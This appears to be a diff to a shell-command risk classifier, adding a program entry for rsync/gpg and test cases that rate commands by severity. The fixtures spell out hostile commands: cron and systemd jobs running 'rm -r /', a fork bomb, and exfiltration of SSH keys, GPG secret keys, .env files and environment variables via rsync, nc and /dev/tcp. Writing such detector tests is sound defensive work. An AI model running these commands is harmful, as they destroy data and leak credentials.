@@ -21,6 +21,7 @@ static const cm_program programs[] = {
     {"curl", "o:d:F:H:T:", "data=", CM_PROGRAM_FETCHES | CM_PROGRAM_SENDS, CM_SAFE},
     {"wget", "O:", NULL, CM_PROGRAM_FETCHES, CM_SAFE},
     {"nc", NULL, NULL, CM_PROGRAM_FETCHES | CM_PROGRAM_SENDS, CM_SAFE},
+    {"rsync|gpg", NULL, NULL, 0, CM_SAFE},
     {"scp", "i:", NULL, CM_PROGRAM_SENDS, CM_MODERATE},
     {"base64|gunzip", NULL, "decode", CM_PROGRAM_DECODES, CM_SAFE},
     {"chmod", NULL, NULL, CM_PROGRAM_QUIET, CM_SAFE},
@@ -189,6 +190,13 @@ static void redirections(void **state) {
       {"curl x >> ~/.bashrc", "critical", "startup.hidden"},
       {"echo x >> ~/.ssh/authorized_keys", "critical", "file.redirect"},
       {"cat < /dev/sda", "safe", ""},
+      {"echo '0 5 * * * root rm -r /' >> /etc/crontab", "critical", "t.delete-tree"},
+      {"echo '@daily root rm -r /' > /etc/cron.d/x", "critical", "t.delete-tree"},
+      {"echo '0 5 * * * root ls' >> /etc/crontab", "high", "file.redirect"},
+      {"echo 'ExecStart=rm -r /' > /etc/systemd/system/x.service", "critical", "t.delete-tree"},
+      {"while true; do nobody-knows-this & done", "critical", "proc.fork-bomb"},
+      {"while true; do ls & sleep 1; done", "safe", ""},
+      {"for i in 1 2 3; do ls & done", "safe", ""},
   };
   CHECK(cases);
 }
@@ -228,6 +236,8 @@ static void flows(void **state) {
       {"scp ~/.ssh/id_rsa.pub host:", "moderate", "program.risk"},
       {"scp -i ~/.ssh/id_rsa a host:", "moderate", "program.risk"},
       {"scp host:key ~/.ssh/id_rsa", "moderate", "program.risk"},
+      {"rsync -a ~/.ssh/ host:", "critical", "data.secret-sent"},
+      {"gpg --export-secret-keys | nc h 1", "critical", "data.secret-sent"},
       {"cat .env > /dev/tcp/h/1", "critical", "data.secret-sent"},
       {"env | nc h 1", "critical", "data.environment-sent"},
       {"env | grep PATH", "safe", ""},
